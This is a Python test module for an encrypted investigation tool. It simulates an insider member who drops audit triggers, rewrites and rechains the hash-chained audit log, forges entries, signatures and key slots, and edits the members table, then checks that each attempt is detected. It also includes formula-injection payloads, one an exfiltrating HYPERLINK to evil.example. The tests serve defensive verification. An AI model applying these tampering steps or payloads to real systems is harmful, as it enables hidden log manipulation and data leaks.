"""Issue 11 as an inside attacker would try it: a member with their own passphrase, key slot
and a Python shell (sqlcipher3 with the data key their slot opens) -- items 3, 5 and 7.

Every attack goes through the files a member has; every check through the entry point the
victim uses (`knooppunt ...` via `main`, or the open function behind it).
"""

from __future__ import annotations

import csv
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from graph.access import audit, keyslots, session
from graph.access.keyslots import KeyFile, key_file
from graph.errors import ProjectError
from graph.model import Entity, Provenance, Relation
from graph.store import GENESIS_HASH, AuditEntry, entry_hash
from graph.stores.sqlite_store import SQLiteStore, connect
from tests.sandbox import FAST_KDF, OWNER_PW
from workbench.cli import main

pytestmark = pytest.mark.usefixtures("english_cli")  # messages checked in the words scripts match

BOB_PW = "bob: analyst with open only"


@pytest.fixture
def project(tmp_path: Path) -> Iterator[Path]:
    """alice (owner) and bob (analyst, clearance open); alice's computer has opened it since."""
    path = tmp_path / "case.knp"
    store = session.create(path, owner="alice", passphrase=OWNER_PW, name="case", kdf=FAST_KDF)
    session.add_member(store, "bob", role="analyst", passphrase=BOB_PW, kdf=FAST_KDF)
    with store.activity("import", source="brp"):
        store.upsert_entities([Entity(type="Person", properties={"name": "Piet Geheim"}, label="police-wpg",
                                      provenance=Provenance(source="politie", reference="1"))])
    store.close()
    session.unlock(path, "alice", OWNER_PW).close()
    yield path


def _files(tmp_path: Path, project: Path) -> list[str]:
    pw = tmp_path / "alice.pw"
    pw.write_text(OWNER_PW)
    return ["--project", str(project), "--passphrase-file", str(pw), "--as", "alice"]


def _bobs_shell(project: Path) -> Any:
    """What bob has: his slot opens the `open` key; with it, sqlcipher3 opens the main file
    (members, settings, audit log)."""
    keys = KeyFile.load(key_file(project))
    conn = connect(project, keys.open_slot("bob", keys.unlock("bob", BOB_PW))["open"])
    for trigger in ("audit_no_update", "audit_no_delete", "audit_head", "audit_sig_no_update",
                    "audit_sig_no_delete"):
        conn.execute(f"DROP TRIGGER IF EXISTS {trigger}")
    return conn


def _rechain(conn: Any) -> None:
    """Recompute every hash and the head record, as an attacker covering their tracks would."""
    rows = conn.execute("SELECT seq, at, actor, action, details FROM audit ORDER BY seq").fetchall()
    conn.execute("DELETE FROM audit")
    prev = GENESIS_HASH
    for i, (_, at, actor, action, details) in enumerate(rows, start=1):
        h = entry_hash(AuditEntry(i, at, actor, action, details, prev, ""))
        conn.execute("INSERT INTO audit VALUES(?,?,?,?,?,?,?)", (i, at, actor, action, details, prev, h))
        prev = h
    conn.execute("UPDATE settings SET value = ? WHERE key = 'audit.head'", (f"{len(rows)}:{prev}",))


def _verify(capsys: pytest.CaptureFixture[str], args: list[str]) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(["audit", "verify", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_untouched_log_verifies_and_names_its_signers(project: Path, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _verify(capsys, _files(tmp_path, project))
    assert code == 0, err
    assert "alice:" in out and "every entry signed by its actor" in out


@pytest.mark.parametrize("attack", ["delete last", "truncate tail", "delete middle and rechain",
                                    "reorder and rechain", "rewrite and rechain"])
def test_tampered_audit_log_is_reported(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                        attack: str) -> None:
    conn = _bobs_shell(project)
    last = conn.execute("SELECT max(seq) FROM audit").fetchone()[0]
    if attack == "delete last":
        conn.execute("DELETE FROM audit WHERE seq = ?", (last,))
        row = conn.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
        conn.execute("UPDATE settings SET value = ? WHERE key = 'audit.head'", (f"{row[0]}:{row[1]}",))
    elif attack == "truncate tail":
        conn.execute("DELETE FROM audit WHERE seq > 2")
        _rechain(conn)
    elif attack == "delete middle and rechain":
        conn.execute("DELETE FROM audit WHERE action = 'member add'")
        _rechain(conn)
    elif attack == "reorder and rechain":
        conn.execute("UPDATE audit SET seq = -1 WHERE seq = 2")
        conn.execute("UPDATE audit SET seq = 2 WHERE seq = 3")
        conn.execute("UPDATE audit SET seq = 3 WHERE seq = -1")
        _rechain(conn)
    else:  # bob hides that the police record was imported
        conn.execute("UPDATE audit SET details = '{\"source\":\"kvk\"}' WHERE action = 'import'")
        _rechain(conn)
    conn.close()

    code, _, err = _verify(capsys, _files(tmp_path, project))
    assert code == 1, err
    # The victim's computer remembers the head it saw: the open itself says so too.
    if attack in ("delete last", "truncate tail"):
        assert "the audit log is shorter than when you last opened it" in err
    else:
        assert "audit entry #" in err or "rewritten since you last opened it" in err
    assert "Traceback" not in err


def test_a_fresh_computer_still_sees_an_unsigned_rewrite(project: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str],
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Even without the remembered head, bob cannot re-sign a rewritten entry in alice's name."""
    conn = _bobs_shell(project)
    conn.execute("UPDATE audit SET details = '{\"source\":\"kvk\"}' WHERE action = 'import'")
    _rechain(conn)
    conn.close()
    monkeypatch.setenv("KNOOPPUNT_STATE_DIR", str(tmp_path / "another-computer"))
    code, _, err = _verify(capsys, _files(tmp_path, project))
    assert code == 1 and "audit entry #" in err and "'alice'" in err


def test_bob_cannot_write_entries_in_alices_name(project: Path, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    """Bob's own open signs his entries; an entry he adds claiming to be alice is unsigned."""
    session.unlock(project, "bob", BOB_PW).close()
    conn = _bobs_shell(project)
    row = conn.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
    forged = AuditEntry(row[0] + 1, "2026-01-01T00:00:00+00:00", "alice", "purge", "{}", row[1], "")
    h = entry_hash(forged)
    conn.execute("INSERT INTO audit VALUES(?,?,?,?,?,?,?)", (*[forged.seq, forged.at, forged.actor,
                                                               forged.action, forged.details, forged.prev_hash], h))
    conn.execute("UPDATE settings SET value = ? WHERE key = 'audit.head'", (f"{forged.seq}:{h}",))
    conn.close()
    code, _, err = _verify(capsys, _files(tmp_path, project))
    assert code == 1 and f"audit entry #{forged.seq}: not signed (claims to be by 'alice')" in err


def test_forged_and_malformed_failure_lines_neither_crash_nor_impersonate(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sidecar = audit.failures_file(project)
    with sidecar.open("wb") as fh:
        fh.write(b'{"at": "2026-01-01", "member": "alice", "reason": "wrong passphrase", "prev": "x", "hash": "y"}\n')
        fh.write(b"[1, 2, 3]\n")  # valid JSON, not an object: crashed every open before
        fh.write(b'{"member": {"nested": true}, "reason": 42}\n')
        fh.write(b"\xff\xfe not even utf-8\n")
        fh.write(b'"just a string"\n')
    code, _, err = _verify(capsys, _files(tmp_path, project))
    assert code == 0, err  # every entry is still signed by its actor: alice opened and merged them
    store = session.unlock(project, "alice", OWNER_PW)
    reports = [e for e in store.audit_entries() if e.action == "unlock failure report"]
    store.close()
    assert len(reports) == 5
    assert all(e.actor == "alice" and json.loads(e.details)["unauthenticated"] is True for e in reports)
    assert json.loads(reports[0].details)["claimed_member"] == "alice"
    assert not sidecar.exists()


def test_pending_failure_reports_are_shown_as_unverified(project: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    audit.failures_file(project).write_text('{"member": "alice", "reason": "forged"}\n[]\n')
    capsys.readouterr()
    # `audit show` reads pending lines before its own open merges them? The open merges first,
    # so write the lines again afterwards to see the pending listing.
    assert main(["audit", "show", *_files(tmp_path, project), "--action", "unlock failure report",
                 "--format", "json"]) == 0
    out = capsys.readouterr().out
    rows = json.loads(out)["rows"]
    assert rows and all(r["actor"] == "alice" for r in rows)
    assert all("unauthenticated=true" in r["details"] for r in rows)


def test_members_table_edited_with_the_data_key_is_refused(project: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    conn = _bobs_shell(project)
    conn.execute("UPDATE members SET role = 'owner', clearance = ? WHERE name = 'bob'",
                 (json.dumps(["confidential", "fiod/tax", "open", "police-wpg"]),))
    conn.close()
    with pytest.raises(ProjectError, match="members table was changed outside Knooppunt"):
        session.unlock(project, "bob", BOB_PW)
    capsys.readouterr()
    assert main(["stats", *_files(tmp_path, project)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "members table" in err


def test_swapping_another_members_public_key_is_refused(project: Path) -> None:
    conn = _bobs_shell(project)
    bobs = conn.execute("SELECT public_key FROM members WHERE name = 'bob'").fetchone()[0]
    conn.execute("UPDATE members SET public_key = ? WHERE name = 'alice'", (bobs,))
    conn.close()
    with pytest.raises(ProjectError, match="members table"):
        session.unlock(project, "alice", OWNER_PW)


def test_bob_cannot_replay_one_of_alices_signatures_on_an_entry_he_forges(project: Path, tmp_path: Path,
                                                                           capsys: pytest.CaptureFixture[str]) -> None:
    """Bob copies a valid signature of alice's from an earlier entry onto a `purge` he writes in her name: a
    signature binds the one entry (project, seq, hash), so it does not fit the forged one."""
    conn = _bobs_shell(project)
    row = conn.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
    signer, signature = conn.execute("SELECT signer, signature FROM audit_signatures WHERE signer = 'alice' "
                                     "ORDER BY seq DESC LIMIT 1").fetchone()
    forged = AuditEntry(row[0] + 1, "2026-01-01T00:00:00+00:00", "alice", "purge", "{}", row[1], "")
    h = entry_hash(forged)
    conn.execute("INSERT INTO audit VALUES(?,?,?,?,?,?,?)", (forged.seq, forged.at, forged.actor, forged.action,
                                                             forged.details, forged.prev_hash, h))
    conn.execute("INSERT INTO audit_signatures(seq, hash, signer, signature) VALUES(?,?,?,?)",
                 (forged.seq, h, signer, signature))
    conn.execute("UPDATE settings SET value = ? WHERE key = 'audit.head'", (f"{forged.seq}:{h}",))
    conn.close()
    code, _, err = _verify(capsys, _files(tmp_path, project))
    assert code == 1 and f"audit entry #{forged.seq}: the signature of 'alice' does not match the entry" in err


def _bobs_forged_slot(project: Path, name: str) -> str:
    """bob writes a slot for `name` into the key file with a passphrase of his choosing and the `open` key
    sealed in it, and recomputes the file's MAC (it is keyed from the `open` key he holds). Returns the
    passphrase file that now "unlocks" as `name`."""
    keys = KeyFile.load(key_file(project))
    open_key = keys.open_slot("bob", keys.unlock("bob", BOB_PW))["open"]
    keys.slots.pop(name, None)
    keys.add_member(name, "bob pretending to be someone", {"open": open_key}, FAST_KDF)
    keys.save(key_file(project), open_key)
    pw = project.with_name(f"forged-{name}.pw")
    pw.write_text("bob pretending to be someone\n")
    return str(pw)


@pytest.mark.parametrize(("name", "refusal"), [
    ("alice", "the public key of member 'alice' in the members table was altered; ask an owner to check the "
              "members"),
    ("mallory", "'mallory' is not a member of {project}"),
], ids=["as-alice", "as-a-new-name"])
def test_a_slot_forged_in_the_key_file_does_not_open_as_that_member(project: Path, name: str, refusal: str,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """The key file passes its MAC check (bob recomputed it); the owner-signed members table decides: the
    slot's public key is not the one signed for alice, and mallory is no member at all."""
    pw = _bobs_forged_slot(project, name)
    capsys.readouterr()
    assert main(["stats", "--project", str(project), "--as", name, "--passphrase-file", pw]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and err.endswith(refusal.format(project=project))


def test_bob_re_signing_the_members_table_as_owner_is_refused(project: Path) -> None:
    """Bob makes himself owner and signs the table with his own key: alice's computer knows better."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from graph.access import signing

    bobs_signing = KeyFile.load(key_file(project)).unlock_signing("bob", BOB_PW)[1]
    assert isinstance(bobs_signing, Ed25519PrivateKey)
    conn = _bobs_shell(project)
    conn.execute("UPDATE members SET role = 'owner' WHERE name = 'bob'")
    pid = KeyFile.load(key_file(project)).project_id
    signing.sign_members(conn, signing.Signer("bob", bobs_signing, pid))
    conn.close()
    with pytest.raises(ProjectError, match="who was not an owner when this computer last opened"):
        session.unlock(project, "alice", OWNER_PW)


def test_plain_file_in_place_of_the_encrypted_project_is_refused(project: Path, tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    project.unlink()
    key_file(project).unlink()
    plain = SQLiteStore(project, create=True)
    plain.set_setting("owner", "bob")
    plain.close()
    capsys.readouterr()
    assert main(["stats", "--project", str(project), "--as", "alice"]) == 2
    err = capsys.readouterr().err
    assert "refusing to open it as a plain project" in err and err.count("\n") == 1


@pytest.mark.parametrize(("field", "value", "message"), [
    ("memory_kib", 2 ** 40, "memory_kib=1099511627776 is outside"),
    ("iterations", 10 ** 9, "iterations=1000000000 is outside"),
    ("lanes", 0, "lanes=0 is outside"),
    ("memory_kib", "lots", "damaged key file"),
    ("iterations", [1], "is not a number"),
])
def test_tampered_kdf_parameters_one_line_no_hang(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                  field: str, value: object, message: str) -> None:
    data = json.loads(key_file(project).read_text())
    data["slots"]["alice"]["kdf"][field] = value
    key_file(project).write_text(json.dumps(data))
    capsys.readouterr()
    assert main(["stats", *_files(tmp_path, project)]) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1


def test_kdf_limits_admit_the_default() -> None:
    d = keyslots.DEFAULT_KDF
    assert keyslots.checked_kdf(d.memory_kib, d.iterations, d.lanes) == d


def test_members_add_without_clearance_grants_open_only(project: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str],
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KNOOPPUNT_NEW_PASSPHRASE", "carol: a passphrase of her own")
    assert main(["members", "add", "carol", "--role", "viewer", *_files(tmp_path, project)]) == 0
    assert "clearance open" in capsys.readouterr().out
    store = session.unlock(project, "carol", "carol: a passphrase of her own")
    assert store.member.clearance == frozenset({"open"})
    assert store.counts().get("Person", 0) == 0  # the police record stays out of sight
    store.close()


# -- exports (item 5) -------------------------------------------------------------------------------
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\") kwaad", "+31 6 1234 kwaad", "-2+3 kwaad",
           "@SUM(1) kwaad", "\tTab kwaad", "\rCR kwaad", "Jan\x07de\x1bVries kwaad"]


@pytest.fixture
def hostile(project: Path) -> Path:
    store = session.unlock(project, "alice", OWNER_PW)
    with store.activity("import", source="test"):
        store.upsert_entities([Entity(type="Person", properties={"name": n}, label="confidential",
                                      provenance=Provenance(source="t", reference=str(i)))
                               for i, n in enumerate(HOSTILE)])
    store.close()
    return project


def _export_entries(project: Path) -> list[dict[str, Any]]:
    store = session.unlock(project, "alice", OWNER_PW)
    found = [json.loads(e.details) for e in store.audit_entries() if e.action == "export"]
    store.close()
    return found


@pytest.mark.parametrize("ext", ["csv", "xlsx", "json"])
def test_exports_are_marked_private_and_injection_safe(hostile: Path, tmp_path: Path, ext: str,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / f"personen.{ext}"
    out.write_text("old, world-readable")
    out.chmod(0o644)
    assert main(["search", "kwaad", "--type", "Person", *_files(tmp_path, hostile), "--output", str(out)]) in (0,)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    if ext == "csv":
        text = out.read_text(encoding="utf-8")
        assert text.startswith("# RUBRICERING: FIOD / FISCAAL GEHEIM\n")
        cells = [c for row in csv.reader(text.splitlines()[1:]) for c in row]
    elif ext == "xlsx":
        from openpyxl import load_workbook
        ws = load_workbook(out).active
        assert ws is not None
        assert ws["A1"].value == "RUBRICERING: FIOD / FISCAAL GEHEIM"
        assert "RUBRICERING" in ws.oddHeader.center.text
        cells = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula anywhere
    else:
        doc = json.loads(out.read_text(encoding="utf-8"))
        assert doc["marking"] == "RUBRICERING: FIOD / FISCAAL GEHEIM" and doc["classification"] == "fiod/tax"
        names = {r["name"] for r in doc["rows"]}
        assert {h.strip() for h in HOSTILE} <= names  # JSON is no spreadsheet: the text as it is, escaped by JSON
        cells = []
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert not any(ord(ch) < 32 and ch != "\n" for ch in cell), repr(cell)
    if ext != "json":
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\") kwaad" in cells
        assert "Jan\\x07de\\x1bVries kwaad" in cells
    entries = _export_entries(hostile)
    # the log is readable with the `open` key: the name of a file marked fiod/tax is kept as its length
    assert entries[-1]["target"] == f"<{len(str(out))} characters, fiod/tax>" and entries[-1]["marking"] == "fiod/tax"


def test_a_viewer_export_writes_nothing_and_is_not_audited_as_done(project: Path, tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str],
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    store = session.unlock(project, "alice", OWNER_PW)
    session.add_member(store, "vera", role="viewer", passphrase="vera's own passphrase", kdf=FAST_KDF)
    store.close()
    pw = tmp_path / "vera.pw"
    pw.write_text("vera's own passphrase")
    out = tmp_path / "x.csv"
    assert main(["stats", "--project", str(project), "--as", "vera", "--passphrase-file", str(pw),
                 "--output", str(out)]) == 2
    assert not out.exists() and not list(tmp_path.glob(".x.*"))
    assert _export_entries(project) == []


def test_a_failed_audit_removes_the_written_file(hostile: Path, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Audit only what was written, and write nothing unaudited."""
    from graph.access.guarded import GuardedStore

    def broken(self: GuardedStore, target: str, count: int, **details: object) -> None:
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(GuardedStore, "record_export", broken)
    out = tmp_path / "x.xlsx"
    assert main(["stats", *_files(tmp_path, hostile), "--output", str(out)]) == 2
    assert not out.exists() and not list(tmp_path.glob(".x.*"))


def test_stdout_export_is_marked(hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    assert main(["stats", *_files(tmp_path, hostile), "--format", "csv"]) == 0
    assert capsys.readouterr().out.startswith("# RUBRICERING: FIOD / FISCAAL GEHEIM\n")


# -- dry runs (item 7) --------------------------------------------------------------------------------
def test_dry_run_answers_as_the_real_import_for_hidden_records(project: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    """Bob (clearance open) asks about an IBAN that only exists at police-wpg."""
    store = session.unlock(project, "alice", OWNER_PW)
    with store.activity("import", source="politie"):
        store.upsert_entities([Entity(type="BankAccount", properties={"iban": "NL91ABNA0417164300"},
                                      label="police-wpg")])
    store.close()
    data = tmp_path / "rekeningen.csv"
    data.write_text("iban\nNL91ABNA0417164300\nNL20INGB0001234567\n")
    spec = tmp_path / "spec.yaml"
    spec.write_text("name: rekeningen\nsource: test\nentities:\n  rekening:\n    type: BankAccount\n"
                    "    properties:\n      iban: {column: iban, required: true}\n")
    pw = tmp_path / "bob.pw"
    pw.write_text(BOB_PW)
    args = ["import", "case", str(data), "--spec", str(spec), "--project", str(project), "--as", "bob",
            "--passphrase-file", str(pw)]
    answers = []
    for extra in (["--dry-run"], []):
        capsys.readouterr()
        code = main([*args, *extra])
        out = capsys.readouterr().out
        answers.append((code, out))  # the counts table; a dry run adds only a note on stderr
    assert answers[0] == answers[1]


# -- full disk (item 7) ---------------------------------------------------------------------------------
def test_full_stdout_is_one_line(project: Path, tmp_path: Path) -> None:
    import subprocess
    import sys
    env = {**os.environ, "KNOOPPUNT_PASSPHRASE": OWNER_PW}
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "workbench.cli", "stats", "--project", str(project),
                               "--as", "alice"], stdout=full, stderr=subprocess.PIPE, text=True, env=env,
                              timeout=120)
    assert done.returncode == 2
    assert done.stderr.strip().count("\n") == 0 and "No space left on device" in done.stderr


def test_project_create_on_a_full_disk_is_one_line_and_retry_works(tmp_path: Path) -> None:
    import resource
    import signal
    import subprocess
    import sys

    def small_disk() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (16 * 1024, 16 * 1024))

    target = tmp_path / "nieuw.knp"
    env = {**os.environ, "KNOOPPUNT_PASSPHRASE": "a good long passphrase for the owner"}
    cmd = [sys.executable, "-m", "workbench.cli", "project", "create", str(target), "--owner", "alice"]
    done = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=120,
                          preexec_fn=small_disk)
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip().count("\n") == 0 and "Traceback" not in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("nieuw")) == []
    again = subprocess.run(cmd, stderr=subprocess.PIPE, text=True, env=env, timeout=120)
    assert again.returncode == 0, again.stderr


# -- merges (item 4) ------------------------------------------------------------------------------------
@pytest.fixture
def twins(project: Path) -> tuple[Path, str, str, str]:
    """Two open 'Jan de Vries' records; the second has a police-wpg relation bob cannot see."""
    store = session.unlock(project, "alice", OWNER_PW)
    a = Entity(type="Person", properties={"name": "Jan de Vries", "birth_date": "1975-07-12"},
               provenance=Provenance(source="gemeente", reference="1"))
    b = Entity(type="Person", properties={"name": "J. de Vries", "birth_date": "1975-07-12"},
               provenance=Provenance(source="kvk", reference="2"))
    informant = Entity(type="Person", properties={"name": "Bron X"}, label="police-wpg",
                       provenance=Provenance(source="politie", reference="3"))
    with store.activity("import", source="test"):
        store.upsert_entities([a, b, informant])
        store.upsert_relations([Relation(type="family_of", source_id=b.id, target_id=informant.id,
                                         label="police-wpg")])
    store.close()
    return project, a.id, b.id, informant.id


def _bob(tmp_path: Path, project: Path) -> list[str]:
    pw = tmp_path / "bob.pw"
    pw.write_text(BOB_PW)
    return ["--project", str(project), "--as", "bob", "--passphrase-file", str(pw)]


def test_merging_never_destroys_hidden_relations_and_undo_restores_them(
        twins: tuple[Path, str, str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project, a, b, informant = twins
    alice = session.unlock(project, "alice", OWNER_PW)
    before = {r.id: r for r in alice.relations_of(b)}
    alice.close()
    assert len(before) == 1
    capsys.readouterr()
    assert main(["resolve", "confirm", a, b, *_bob(tmp_path, project)]) == 0
    merge_id = capsys.readouterr().out.split(": ")[1].split(" ")[0]

    alice = session.unlock(project, "alice", OWNER_PW)
    followed = alice.relations_of(a)  # the hidden relation follows the merge
    assert [(r.id, r.source_id, r.target_id) for r in followed] == [(rid, a, informant) for rid in before]
    assert alice.get_entity(a).properties["aliases"] == ["J. de Vries"]
    assert b not in alice.neighbours([informant])
    assert a in alice.neighbours([informant])
    assert set(alice.graph().predecessors(informant)) == {a}
    alice.close()

    bob = session.unlock(project, "bob", BOB_PW)
    assert bob.relations_of(a) == []  # still out of bob's sight
    bob.close()

    assert main(["resolve", "undo", merge_id, *_bob(tmp_path, project)]) == 0
    alice = session.unlock(project, "alice", OWNER_PW)
    assert {r.id: r for r in alice.relations_of(b)} == before
    assert alice.relations_of(a) == []
    assert "aliases" not in alice.get_entity(a).properties
    alice.close()


def test_merge_lists_are_filtered_and_writing_them_is_an_audited_export(
        twins: tuple[Path, str, str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KNOOPPUNT_LANG", "nl")  # the Dutch table (this module runs in English)
    project, _, _, informant = twins
    alice = session.unlock(project, "alice", OWNER_PW)
    secret = Entity(type="Person", properties={"name": "Bron Y"}, label="police-wpg",
                    provenance=Provenance(source="politie", reference="4"))
    with alice.activity("import", source="politie"):
        alice.upsert_entities([secret])
    from graph.merge import merge_entities
    merge_entities(alice, informant, secret.id, reason="zelfde bron")
    session.add_member(alice, "vera", role="viewer", passphrase="vera's own passphrase", kdf=FAST_KDF)
    alice.close()

    capsys.readouterr()
    assert main(["resolve", "merges", *_bob(tmp_path, project)]) == 0
    out = capsys.readouterr().out
    assert "Bron" not in out and informant not in out and "(geen resultaten)" in out
    assert main(["resolve", "list", *_bob(tmp_path, project), "--threshold", "50"]) == 0
    assert "Bron" not in capsys.readouterr().out

    out_file = tmp_path / "merges.csv"
    assert main(["resolve", "merges", *_bob(tmp_path, project), "--output", str(out_file)]) == 0
    assert out_file.read_text().startswith("# RUBRICERING: OPEN\n")
    assert _export_entries(project)[-1]["target"] == str(out_file)

    pw = tmp_path / "vera.pw"
    pw.write_text("vera's own passphrase")
    vera_file = tmp_path / "vera.csv"
    assert main(["resolve", "merges", "--project", str(project), "--as", "vera", "--passphrase-file", str(pw),
                 "--output", str(vera_file)]) == 2
    assert not vera_file.exists()


@pytest.mark.parametrize(("memory", "iterations", "lanes"), [
    (8, 1, 1),  # every lower bound
    (4 * 1024 * 1024, 64, 16),  # every upper bound: the limits are inclusive
    (8 * 16, 2, 16),  # exactly 8 KiB per lane
])
def test_kdf_limits_are_inclusive_and_keep_each_field(memory: int, iterations: int, lanes: int) -> None:
    params = keyslots.checked_kdf(str(memory), iterations, lanes)  # a key file may hold text
    assert (params.memory_kib, params.iterations, params.lanes) == (memory, iterations, lanes)


@pytest.mark.parametrize(("memory", "iterations", "lanes", "message"), [
    (4 * 1024 * 1024 + 1, 4, 1,
     "key file: KDF parameter memory_kib=4194305 is outside 8..4194304 (damaged or tampered key file)"),
    (131072, 65, 1, "key file: KDF parameter iterations=65 is outside 1..64 (damaged or tampered key file)"),
    (131072, 4, 17, "key file: KDF parameter lanes=17 is outside 1..16 (damaged or tampered key file)"),
    (8 * 16 - 1, 4, 16, "key file: KDF memory_kib=127 is below 8 KiB per lane"),
    (20, 4, 3, "key file: KDF memory_kib=20 is below 8 KiB per lane"),
])
def test_kdf_outside_limits_is_refused_with_its_reason(memory: int, iterations: int, lanes: int,
                                                       message: str) -> None:
    from graph.errors import ProjectError

    with pytest.raises(ProjectError) as caught:
        keyslots.checked_kdf(memory, iterations, lanes)
    assert str(caught.value) == message


def test_a_refused_action_is_in_the_log_with_what_was_tried(project: Path, tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    """bob (analyst) tries to add a member: refused, and the owner reads in the log who tried what."""
    pw, new = tmp_path / "bob.pw", tmp_path / "eve.pw"
    pw.write_text(BOB_PW + "\n")
    new.write_text("eve: a long enough passphrase\n")
    assert main(["members", "add", "eve", "--role", "owner", "--new-passphrase-file", str(new),
                 "--project", str(project), "--as", "bob", "--passphrase-file", str(pw)]) == 2
    assert "may not manage members" in capsys.readouterr().err
    assert main(["audit", "show", *_files(tmp_path, project), "--action", "denied", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    assert [(r["actor"], r["details"]) for r in rows][-1:] == [("bob", 'permission="members" role="analyst"')]
